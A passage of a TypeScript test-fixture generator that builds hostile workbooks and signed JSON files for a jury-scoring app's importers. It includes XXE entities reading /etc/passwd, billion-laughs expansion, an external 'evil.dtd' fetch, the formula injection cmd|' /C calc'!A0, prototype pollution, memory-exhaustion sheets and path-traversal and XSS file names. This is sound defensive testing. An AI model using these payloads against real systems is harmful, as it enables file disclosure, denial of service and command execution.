      make: () => definedName(template, 'Nominasi', '$A$1:$T$20000'),
    },
    {
      name: 'lembar-relasi-120rb.xlsx',
      what: '120,000 relationships in xl/_rels/workbook.xml.rels',
      says: says(/more than 100,000 XML elements outside its cell data/, /lebih dari 100\.000 elemen XML di luar data sel/),
      make: () =>
        patchZip(sheet, {
          'xl/_rels/workbook.xml.rels': (x) =>
            x.replace(
              '</Relationships>',
              `${Array.from({ length: 120_000 }, (_, i) => `<Relationship Id="rZ${i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/z${i}.png"/>`).join('')}</Relationships>`,
            ),
        }),
    },
    {
      name: 'templat-format-bersyarat.xlsx',
      what: 'a sheet with 40,000 conditional formats (120,000 elements)',
      says: says(/more than 100,000 XML elements outside its cell data/, /lebih dari 100\.000 elemen XML di luar data sel/),
      make: () =>
        withExtraSheets(
          template,
          1,
          emptySheet(
            `<sheetData/>${Array.from({ length: 40_000 }, (_, i) => `<conditionalFormatting sqref="A${i + 1}"><cfRule type="expression" priority="${i + 1}"><formula>${i}</formula></cfRule></conditionalFormatting>`).join('')}`,
          ),
        ),
    },
    {
      name: 'lembar-teks-bersama-150rb.xlsx',
      what: '150,000 more shared strings, all different',
      says: says(
        /shared strings \(entry 'xl\/sharedStrings\.xml'\) number [\d,]+ in/,
        /teks bersamanya \(shared strings, bagian 'xl\/sharedStrings\.xml'\) berjumlah [\d.]+ dalam/,
      ),
      make: () =>
        withSharedStrings(
          sheet,
          1,
          Array.from({ length: 150_000 }, (_, i) => `<si><t>${(Math.imul(i, 2654435761) >>> 0).toString(36)}</t></si>`).join(''),
        ),
    },
    {
      name: 'templat-teks-bersama-12mib.xlsx',
      what: 'shared strings of 12.5 MiB (16 strings of 0.8 MiB)',
      says: says(/shared strings \(entry 'xl\/sharedStrings\.xml'\) number [\d,]+ in 12\.\d MiB/, /teks bersamanya .* dalam 12,\d MiB/),
      make: () =>
        withSharedStrings(
          template,
          1,
          Array.from({ length: 16 }, (_, i) => `<si><t>${seeded(600 * 1024, 100 + i).toString('base64')}</t></si>`).join(''),
        ),
    },
    {
      name: 'lembar-teks-kaya.xlsx',
      what: '50,000 more shared strings in rich text, two runs each (400,000 elements)',
      says: says(/holds more than 350,000 XML elements/, /berisi lebih dari 350\.000 elemen XML/),
      make: () =>
        withSharedStrings(
          sheet,
          1,
          Array.from(
            { length: 50_000 },
            (_, i) => `<si><r><rPr><b/><sz val="11"/></rPr><t>${i.toString(36)}</t></r><r><t>${(i * 7).toString(36)}</t></r></si>`,
          ).join(''),
        ),
    },
  ]);
  // Just under every whole-workbook limit at once: through the guard, then refused by the sheet's
  // verification (sheets it does not know) within the bounds. The template importer reads only its own
  // sheets and would import the event, so this one goes to the sheet importer only.
  add(
    'whole workbook',
    ['sheet'],
    [
      {
        name: 'lembar-di-bawah-semua-batas.xlsx',
        what: 'J1 sheet plus 7 sheets of 6,400 × 3 number cells with every column formatted, 19,000 merged cells, a name over 99,000 cells, 15,000 conditional-format elements, 10 MiB of Cyrillic text (as XML)',
        make: () =>
          atTheLimits(sheet, {
            sheets: 7,
            rows: 6_400,
            columns: 3,
            emptyRows: 0,
            merged: 19_000,
            named: 99_000,
            other: 15_000,
            numbers: true,
            textCells: 1_250,
          }),
      },
      {
        name: 'lembar-di-bawah-semua-batas-2.xlsx',
        what: 'J1 sheet plus 7 sheets of 7,000 × 3 formatted empty cells with every column formatted, 19,000 merged cells, a name over 99,000 cells, 95,000 conditional-format elements',
        make: () => atTheLimits(sheet, { sheets: 7, rows: 7_000, columns: 3, emptyRows: 0, merged: 19_000, named: 99_000, other: 95_000 }),
      },
    ],
  );

  // --- XML with a DTD: entity expansion and external entities, in a real workbook's parts.
  add(
    'xml entities',
    ['template'],
    [
      {
        name: 'templat-billion-laughs.xlsx',
        what: 'billion laughs in Nominasi',
        make: () =>
          patchZip(template, {
            [TEMPLATE_ENTRY.Nominasi]: (x) => useEntity('lol9')(withDoctype(billionLaughs('worksheet'), 'worksheet')(x)),
          }),
      },
      {
        name: 'templat-xxe.xlsx',
        what: 'SYSTEM "file:///etc/passwd" in Nominasi',
        make: () =>
          patchZip(template, {
            [TEMPLATE_ENTRY.Nominasi]: (x) => useEntity('xxe')(withDoctype(externalEntity('worksheet'), 'worksheet')(x)),
          }),
      },
      {
        name: 'templat-xxe-sharedstrings.xlsx',
        what: 'an external entity in sharedStrings',
        make: () => patchZip(template, { 'xl/sharedStrings.xml': (x) => useEntity('xxe')(withDoctype(externalEntity('sst'), 'sst')(x)) }),
      },
      {
        name: 'templat-dtd-luar.xlsx',
        what: 'an external DTD in workbook.xml',
        make: () =>
          patchZip(template, { 'xl/workbook.xml': withDoctype('<!DOCTYPE workbook SYSTEM "http://127.0.0.1:9/evil.dtd">', 'workbook') }),
      },
      {
        name: 'templat-entitas-parameter.xlsx',
        what: 'a parameter entity in docProps/core.xml',
        make: () =>
          patchZip(template, {
            'docProps/core.xml': withDoctype('<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', 'cp:coreProperties'),
          }),
      },
    ],
  );
  add(
    'xml entities',
    ['sheet'],
    [
      {
        name: 'lembar-billion-laughs.xlsx',
        what: 'billion laughs in a section sheet',
        make: () => patchZip(sheet, { [SHEET_SECTION]: (x) => useEntity('lol9')(withDoctype(billionLaughs('worksheet'), 'worksheet')(x)) }),
      },
      {
        name: 'lembar-xxe.xlsx',
        what: 'SYSTEM "file:///etc/passwd" in the signature sheet',
        make: () => patchZip(sheet, { [SHEET_CARRIER]: (x) => useEntity('xxe')(withDoctype(externalEntity('worksheet'), 'worksheet')(x)) }),
      },
      {
        name: 'lembar-xxe-sharedstrings.xlsx',
        what: 'an external entity in sharedStrings',
        make: () => patchZip(sheet, { 'xl/sharedStrings.xml': (x) => useEntity('xxe')(withDoctype(externalEntity('sst'), 'sst')(x)) }),
      },
      {
        name: 'lembar-dtd-luar.xlsx',
        what: 'an external DTD in [Content_Types].xml',
        make: () =>
          patchZip(sheet, { '[Content_Types].xml': withDoctype('<!DOCTYPE Types SYSTEM "http://127.0.0.1:9/evil.dtd">', 'Types') }),
      },
    ],
  );

  // --- A million rows, and the other things a worksheet can declare that cost per cell.
  const nominees = TEMPLATE_ENTRY.Nominasi;
  add(
    'million rows',
    ['template'],
    [
      {
        name: 'templat-baris-1jt.xlsx',
        what: 'Nominasi with a cell at A1000000',
        make: () => patchZip(template, { [nominees]: addBeforeSheetData(`<row r="1000000">${inlineCell('A1000000', 'x')}</row>`) }),
      },
      {
        name: 'templat-dimensi-1jt.xlsx',
        what: 'dimension A1:Z1000000 plus a row at 1,000,000',
        make: () =>
          patchZip(template, {
            [nominees]: (x) =>
              addBeforeSheetData(`<row r="1000000">${inlineCell('Z1000000', 'x')}</row>`)(
                x.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:Z1000000"/>'),
              ),
          }),
      },
      // A declared dimension alone is no hostile file: readers allocate nothing for it, and LibreOffice writes
      // A1:K1048576 once any row is deleted (tests/interop/harmless-edits.test.ts keeps such a sheet valid).
      {
        name: 'templat-sejuta-baris-nyata.xlsx',
        what: 'Nominasi with 1,000,000 real rows (<row r="N"/>), deflated as generated',
        make: async () => withEntry(template, { name: nominees, raw: await millionRowSheet(1_000_000) }),
      },
      {
        name: 'templat-kolom-xfd.xlsx',
        what: 'a heading at XFD1 in Nominasi (16,384 columns)',
        make: () =>
          patchZip(template, {
            [nominees]: (x) => x.replace(/(<row r="1"[^>]*>[\s\S]*?)(<\/row>)/, `$1${inlineCell('XFD1', 'Atribut')}$2`),
          }),
      },
      {
        name: 'templat-col-max.xlsx',
        what: '<col max="100000000"> (exceljs loops until out of memory)',
        make: () =>
          patchZip(template, { [nominees]: (x) => x.replace('<cols>', '<cols><col min="20" max="100000000" width="5" customWidth="1"/>') }),
      },
      {
        name: 'templat-col-max-kutip-tunggal.xlsx',
        what: "<col max='100000000'> in single quotes",
        make: () => patchZip(template, { [nominees]: (x) => x.replace('<cols>', "<cols><col min='20' max='100000000' width='5'/>") }),
      },
      {
        name: 'templat-col-max-rujukan.xlsx',
        what: '<col max="&#49;00000000"> (a character reference)',
        make: () => patchZip(template, { [nominees]: (x) => x.replace('<cols>', '<cols><col min="20" max="&#49;00000000" width="5"/>') }),
      },
      {
        name: 'templat-col-max-tersembunyi.xlsx',
        what: '<col> with ">" inside an earlier attribute value',
        make: () =>
          patchZip(template, { [nominees]: (x) => x.replace('<cols>', '<cols><col width="5" note="a>b" max = "100000000" min="20"/>') }),
      },
      {
        name: 'templat-lembar-cadangan.xlsx',
        what: 'an extra entry xl/worksheets/sheet5.xml.old (exceljs parses it too) with <col max="100000000">',
        make: () =>
          patchZip(template, {
            'xl/worksheets/sheet5.xml.old': () => '<worksheet><cols><col min="1" max="100000000"/></cols><sheetData/></worksheet>',
          }),
      },
      {
        name: 'templat-merge-raksasa.xlsx',
        what: 'a merge over F3:Z200000',
        make: () =>
          patchZip(template, { [nominees]: addAfterSheetData('<mergeCells count="1"><mergeCell ref="F3:Z200000"/></mergeCells>') }),
      },
      {
        name: 'templat-validasi-seluruh.xlsx',
        what: 'data validation over A1:XFD1048576',
        make: () =>
          patchZip(template, { 'xl/worksheets/sheet4.xml': (x) => x.replace(/sqref="[A-Z]+3:[A-Z]+500"/, 'sqref="A1:XFD1048576"') }),
      },
      {
        name: 'templat-validasi-2-kolom.xlsx',
        what: 'data validation over two whole columns',
        make: () =>
          patchZip(template, {
            'xl/worksheets/sheet4.xml': (x) => x.replace(/sqref="[A-Z]+3:[A-Z]+500"/, 'sqref="F1:F1048576 G1:G1048576"'),
          }),
      },
    ],
  );
  add(
    'million rows',
    ['sheet'],
    [
      {
        name: 'lembar-baris-1048576.xlsx',
        what: 'a section sheet with a row at 1,048,576',
        make: () => patchZip(sheet, { [SHEET_SECTION]: addBeforeSheetData(`<row r="1048576">${inlineCell('A1048576', 'x')}</row>`) }),
      },
      {
        name: 'lembar-sejuta-baris-nyata.xlsx',
        what: 'a section with 1,000,000 real rows',
        make: async () => withEntry(sheet, { name: SHEET_SECTION, raw: await millionRowSheet(1_000_000) }),
      },
      {
        name: 'lembar-merge-seluruh.xlsx',
        what: 'a merge over A1:XFD1048576',
        make: () =>
          patchZip(sheet, { [SHEET_SECTION]: addAfterSheetData('<mergeCells count="1"><mergeCell ref="A20:XFD1048576"/></mergeCells>') }),
      },
      {
        name: 'lembar-validasi-x14.xlsx',
        what: 'an x14 data validation over the whole sheet',
        make: () =>
          patchZip(sheet, {
            [SHEET_SECTION]: (x) =>
              x.replace(
                '</worksheet>',
                '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="1" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><x14:dataValidation type="list"><x14:formula1><xm:f>$A$1:$A$2</xm:f></x14:formula1><xm:sqref>A1:XFD1048576</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst></worksheet>',
              ),
          }),
      },
    ],
  );

  // --- Wrong types in every column of each template sheet.
  for (const sheetName of Object.values(SHEETS)) {
    const fields = templateFields(sheetName);
    const wrong = fields.map(({ field, cell }) => ({ cell, ...wrongValue(field) }));
    add(
      'wrong types',
      ['template'],
      [
        {
          name: `templat-tipe-salah-${sheetName.toLowerCase()}.xlsx`,
          what: `a wrong type in each of ${fields.length} columns of ${sheetName} (${wrong.filter((w) => w.expectIssue).length} typed)`,
          issuesAt: { sheet: sheetName, cells: wrong.filter((w) => w.expectIssue).map((w) => w.cell) },
          make: () =>
            editWorkbook(template, (workbook) => {
              const ws = workbook.getWorksheet(sheetName)!;
              for (const { cell, value } of wrong) ws.getCell(cell).value = value;
            }),
        },
      ],
    );
  }

  // --- Payloads with extra, missing or mistyped fields; files of the other kind.
  const pkg = src.packageText;
  const enrolment = src.enrolmentText;
  const rogue = throwawayKey();
  add(
    'payload fields',
    ['package'],
    [
      {
        name: 'paket-ekstra-akar.timbang',
        what: 'an extra field beside payload and signature',
        make: () => signedJson(pkg, (e) => ({ ...e, extra: true })),
      },
      {
        name: 'paket-ekstra-payload.timbang',
        what: 'an extra field in the payload',
        make: () =>
          signedJson(pkg, (e) => {
            e.payload.debug = { admin: true };
          }),
      },
      {
        name: 'paket-tanpa-revisi.timbang',
        what: 'the revision missing',
        make: () =>
          signedJson(pkg, (e) => {
            delete e.payload.revision;
          }),
      },
      {
        name: 'paket-revisi-teks.timbang',
        what: 'the revision as text "2"',
        make: () =>
          signedJson(pkg, (e) => {
            e.payload.revision = '2';
          }),
      },
      {
        name: 'paket-kunci-juri-ekstra.timbang',
        what: 'an extra field in a juror key',
        make: () =>
          signedJson(pkg, (e) => {
            (e.payload.jurorKeys as Record<string, unknown>[])[0].admin = true;
          }),
      },
      { name: 'paket-payload-null.timbang', what: 'payload null', make: () => signedJson(pkg, (e) => ({ ...e, payload: null })) },
      { name: 'paket-larik.timbang', what: 'an array instead of an object', make: () => signedJson(pkg, (e) => [e.payload, e.signature]) },
      {
        name: 'paket-tanpa-tanda-tangan.timbang',
        what: 'the signature missing',
        make: () => signedJson(pkg, (e) => ({ payload: e.payload })),
      },
      {
        name: 'paket-tanda-tangan-rusak.timbang',
        what: 'a signature that is not base64',
        make: () => signedJson(pkg, (e) => ({ ...e, signature: '!!! bukan base64 !!!' })),
      },
      {
        name: 'paket-proto.timbang',
        what: 'a "__proto__" key in the payload',
        make: () => utf8(src.packageText.replace('"payload": {', '"payload": {"__proto__": {"polluted": true},')),
      },
      {
        name: 'paket-ditandatangani-ulang-ekstra.timbang',
        what: 'signed again by another key, with an extra field',
        make: () =>
          signedJson(
            pkg,
            (e) => {
              e.payload.secretariat = { publicKey: rogue.publicKey, fingerprint: rogue.fingerprint };
              e.payload.extra = 1;
            },
            rogue,
          ),
      },
      {
        name: 'paket-acara-ekstra.timbang',
        what: 'signed again, with an unknown field inside the event',
        make: () =>
          signedJson(
            pkg,
            (e) => {
              e.payload.secretariat = { publicKey: rogue.publicKey, fingerprint: rogue.fingerprint };
              (e.payload.event as Record<string, unknown>).script = 'alert(1)';
            },
            rogue,
          ),
      },
      {
        name: 'paket-kunci-lain.timbang',
        what: 'well formed, signed by another secretariat key (applyPackage refuses)',
        make: () =>
          signedJson(
            pkg,
            (e) => {
              e.payload.secretariat = { publicKey: rogue.publicKey, fingerprint: rogue.fingerprint };
              e.payload.revision = 9;
            },
            rogue,
          ),
      },
      { name: 'pendaftaran-sebagai-paket.timbang', what: 'an enrolment file given as a package', make: () => utf8(`${enrolment} `) },
    ],
  );
  add(
    'payload fields',
    ['enrolment'],
    [
      {
        name: 'pendaftaran-ekstra.timbang-enrol',
        what: 'an extra field in the payload',
        make: () =>
          signedJson(enrolment, (e) => {
            e.payload.role = 'ketua';
          }),
      },
      {
        name: 'pendaftaran-tanpa-kunci.timbang-enrol',
        what: 'the public key missing',
        make: () =>
          signedJson(enrolment, (e) => {
            delete e.payload.publicKey;
          }),
      },
      {
        name: 'pendaftaran-nama-panjang.timbang-enrol',
        what: 'a name of 300 characters',
        make: () =>
          signedJson(enrolment, (e) => {
            e.payload.name = 'A'.repeat(300);
          }),
      },
      {
        name: 'pendaftaran-tanggal-angka.timbang-enrol',
        what: 'createdAt as a number',
        make: () =>
          signedJson(enrolment, (e) => {
            e.payload.createdAt = 1750000000;
          }),
      },
      {
        name: 'pendaftaran-proto.timbang-enrol',
        what: 'a "__proto__" key in the payload',
        make: () => utf8(enrolment.replace('"payload": {', '"payload": {"__proto__": {"polluted": true},')),
      },
      { name: 'paket-sebagai-pendaftaran.timbang-enrol', what: 'a package given as an enrolment', make: () => utf8(`${pkg} `) },
      {
        name: 'pendaftaran-sidik-jari-salah.timbang-enrol',
        what: "signed by its own key, with a fingerprint that is not the key's",
        make: () => {
          const k = throwawayKey();
          return signedJson(
            enrolment,
            (e) => {
              e.payload.publicKey = k.publicKey;
              e.payload.fingerprint = rogue.fingerprint;
            },
            k,
          );
        },
      },
      {
        name: 'pendaftaran-acara-lain.timbang-enrol',
        what: 'well formed, for another event',
        make: () => {
          const k = throwawayKey();
          return signedJson(
            enrolment,
            (e) => {
              e.payload.publicKey = k.publicKey;
              e.payload.fingerprint = k.fingerprint;
              e.payload.eventId = 'acara-lain';
            },
            k,
          );
        },
      },
      {
        name: 'pendaftaran-kunci-lain.timbang-enrol',
        what: 'well formed, J1 again with another key (enrol refuses)',
        make: () => {
          const k = throwawayKey();
          return signedJson(
            enrolment,
            (e) => {
              e.payload.publicKey = k.publicKey;
              e.payload.fingerprint = k.fingerprint;
            },
            k,
          );
        },
      },
    ],
  );
  add(
    'payload fields',
    ['sheet'],
    [
      {
        name: 'lembar-payload-ekstra.xlsx',
        what: 'an extra field in the signed payload',
        make: () =>
          withPayload(src, (p) => {
            p.admin = true;
          }),
      },
      {
        name: 'lembar-payload-ekstra-ditandatangani.xlsx',
        what: "an extra field, signed again with J1's key",
        make: () =>
          withPayload(
            src,
            (p) => {
              p.admin = true;
            },
            src.jurorKey,
          ),
      },
      {
        name: 'lembar-payload-tanpa-bagian.xlsx',
        what: 'the sections missing',
        make: () =>
          withPayload(
            src,
            (p) => {
              delete p.sections;
            },
            src.jurorKey,
          ),
      },
      {
        name: 'lembar-payload-revisi-teks.xlsx',
        what: 'sheetRevision as text',
        make: () =>
          withPayload(
            src,
            (p) => {
              p.sheetRevision = '1';
            },
            src.jurorKey,
          ),
      },
      {
        name: 'lembar-payload-nilai-objek.xlsx',
        what: 'a mark that is an object',
        make: () =>
          withPayload(
            src,
            (p) => {
              const n = (p.sections as { nominees: { marks: Record<string, unknown> }[] }[])[0].nominees[0];
              n.marks[Object.keys(n.marks)[0]] = { valueOf: 5 };
            },
            src.jurorKey,
          ),
      },
      {
        name: 'lembar-payload-proto.xlsx',
        what: 'a "__proto__" key in the signed payload',
        make: () => withPayload(src, (p) => JSON.parse(JSON.stringify(p).replace('{', '{"__proto__":{"polluted":true},'))),
      },
      {
        name: 'lembar-payload-bukan-json.xlsx',
        what: 'payload cells that are not JSON',
        make: () =>
          editWorkbook(sheet, (wb) => {
            wb.getWorksheet('Tanda tangan')!.getCell(CARRIER.firstChunk, 2).value = '{"format": "timbang.sheet", ...';
          }),
      },
      {
        name: 'lembar-jumlah-bagian-1001.xlsx',
        what: 'a payload part count of 1,001',
        make: () =>
          editWorkbook(sheet, (wb) => {
            wb.getWorksheet('Tanda tangan')!.getCell(CARRIER.count, 2).value = 1001;
          }),
      },
      {
        name: 'lembar-penanda-salah.xlsx',
        what: 'another format marker',
        make: () =>
          editWorkbook(sheet, (wb) => {
            wb.getWorksheet('Tanda tangan')!.getCell(CARRIER.marker, 2).value = 'timbang.sheet-signature/99';
          }),
      },
    ],
  );

  // --- Invalid UTF-8.
  const breakUtf8 = (text: string, after: string, bad: number[]) => {
    const bytes = utf8(text);
    const at = bytes.indexOf(utf8(after)) + Buffer.byteLength(after);
    return Buffer.concat([bytes.subarray(0, at), Buffer.from(bad), bytes.subarray(at)]);
  };
  add(
    'invalid utf-8',
    ['package'],
    [
      { name: 'paket-byte-ff.timbang', what: 'a 0xFF byte inside a string', make: () => breakUtf8(pkg, '"name": "', [0xff]) },
      {
        name: 'paket-overlong.timbang',
        what: 'an overlong encoding of "/" (C0 AF)',
        make: () => breakUtf8(pkg, '"name": "', [0xc0, 0xaf]),
      },
      {
        name: 'paket-utf16.timbang',
        what: 'the package in UTF-16LE',
        make: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(pkg, 'utf16le')]),
      },
    ],
  );
  add(
    'invalid utf-8',
    ['enrolment'],
    [
      {
        name: 'pendaftaran-surrogate.timbang-enrol',
        what: 'an encoded lone surrogate (ED A0 80)',
        make: () => breakUtf8(enrolment, '"name": "', [0xed, 0xa0, 0x80]),
      },
      {
        name: 'pendaftaran-terputus.timbang-enrol',
        what: 'a multi-byte character cut short',
        make: () => breakUtf8(enrolment, '"name": "', [0xe2, 0x82]),
      },
    ],
  );
  add(
    'invalid utf-8',
    ['template'],
    [
      {
        name: 'templat-utf8-rusak.xlsx',
        what: 'invalid UTF-8 in sharedStrings',
        make: () => invalidUtf8Entry(template, 'xl/sharedStrings.xml', '<t>'),
      },
    ],
  );
  add(
    'invalid utf-8',
    ['sheet'],
    [
      {
        name: 'lembar-utf8-rusak.xlsx',
        what: 'invalid UTF-8 in the signature sheet',
        make: () => invalidUtf8Entry(sheet, SHEET_CARRIER, '<v>'),
      },
    ],
  );

  // --- Very large files: over the 20 MiB limit (25 MiB), and one byte over it.
  const padJson = (text: string, size: number) =>
    utf8(text.replace('"signature"', `"padding": "${'x'.repeat(size - Buffer.byteLength(text) - 20)}", "signature"`));
  const IMAGE = 'xl/media/image1.png';
  const withBlob = (bytes: Uint8Array, size: number) => writeZip([...entries(bytes), { name: IMAGE, data: randomBytes(size), method: 0 }]);
  /** A workbook grown by a stored image to exactly `total` bytes. */
  const grownTo = (bytes: Uint8Array, total: number) =>
    withBlob(bytes, total - writeZip(entries(bytes)).length - 30 - 46 - 2 * IMAGE.length);
  add(
    'very large',
    ['package'],
    [
      { name: 'paket-25mib.timbang', what: 'a 25 MiB package (valid JSON)', make: () => padJson(pkg, 25 * MiB) },
      {
        name: 'paket-batas-plus-1.timbang',
        what: `a package of ${MAX_SIGNED_FILE_BYTES + 1} bytes`,
        make: () => Buffer.concat([packageBytes, Buffer.alloc(MAX_SIGNED_FILE_BYTES + 1 - packageBytes.length, 0x20)]),
      },
    ],
  );
  add(
    'very large',
    ['enrolment'],
    [{ name: 'pendaftaran-25mib.timbang-enrol', what: 'a 25 MiB enrolment (valid JSON)', make: () => padJson(enrolment, 25 * MiB) }],
  );
  add(
    'very large',
    ['sheet'],
    [
      { name: 'lembar-25mib.xlsx', what: 'J1 sheet with a 25 MiB image', make: () => withBlob(sheet, 25 * MiB) },
      {
        name: 'lembar-batas-plus-1.xlsx',
        what: `J1 sheet grown to ${MAX_SIGNED_FILE_BYTES + 1} bytes`,
        make: () => grownTo(sheet, MAX_SIGNED_FILE_BYTES + 1),
      },
    ],
  );
  add(
    'very large',
    ['template'],
    [{ name: 'templat-25mib.xlsx', what: 'the template with a 25 MiB image', make: () => withBlob(template, 25 * MiB) }],
  );

  // --- Formula injection in a template: imported as the literal text, or refused; never evaluated.
  add(
    'formula injection',
    ['template'],
    [
      // Refused at template import since text that begins with =, +, -, @, a tab or a line break is (issue 14,
      // item 9: a CSV saved from any workbook carrying it would run it): an issue at every planted cell.
      ...FORMULAS.map((formula, i) => ({
        name: `templat-rumus-${i + 1}.xlsx`,
        what: `text ${JSON.stringify(formula)} in names, places, reasons and a notes column`,
        issuesAt: [...new Set(PLANTED.map((p) => p.sheet))].map((sheet) => ({
          sheet,
          cells: PLANTED.filter((p) => p.sheet === sheet).map((p) => p.cell),
        })),
        make: () => plantInTemplate(src, formula),
      })),
      {
        name: 'templat-rumus-sel-tersimpan.xlsx',
        what: `real formula cells (cmd|' /C calc'!A0) with a saved result`,
        expect: 'literal' as const,
        literal: { planted: PLANTED, value: 'Hasil tersimpan', forbidden: ['cmd|'] },
        make: () => plantInTemplate(src, { formula: `cmd|' /C calc'!A0`, result: 'Hasil tersimpan' } as CellValue),
      },
      {
        name: 'templat-rumus-sel-tanpa-hasil.xlsx',
        what: 'real formula cells without a saved result',
        make: () => plantInTemplate(src, { formula: `cmd|' /C calc'!A0` } as CellValue),
      },
    ],
  );

  // --- File names that look like paths, or worse: contents that every importer refuses, different each time.
  const names = [
    '../../etc/passwd.xlsx',
    'C:\\Windows\\System32\\config\\SAM.xlsx',
    'lembar\u0000J1.xlsx',
    '/etc/shadow',
    '..\\..\\boot.ini',
    `=cmd|' /C calc'!A0.xlsx`,
    '<img src=x onerror=alert(1)>.xlsx',
    'J1-\u202Exslx.exe',
    'file:///etc/passwd',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd.timbang',
  ];
  add(
    'path-like names',
    [...XLSX, ...SIGNED_JSON],
    names.map((name, i) => ({
      name,
      what: `name ${JSON.stringify(name)}, a truncated sheet`,
      make: () => cut(sheet, 1500 + 7 * i),
    })),
  );

  return files;
}

/** An entry of a real workbook with bytes no UTF-8 text has (FF FE) just after the first `marker`. */
function invalidUtf8Entry(bytes: Uint8Array, entry: string, marker: string): Buffer {
  return writeZip(
    entries(bytes).map((e) => {
      if (e.name !== entry) return e;
      const text = Buffer.from(e.data!);
      const at = text.indexOf(marker);
      if (at < 0) throw new Error(`invalidUtf8Entry: no ${marker} in ${entry}`);
      return {
        name: e.name,
        data: Buffer.concat([text.subarray(0, at + marker.length), Buffer.from([0xff, 0xfe]), text.subarray(at + marker.length)]),
      };
    }),
  );
}
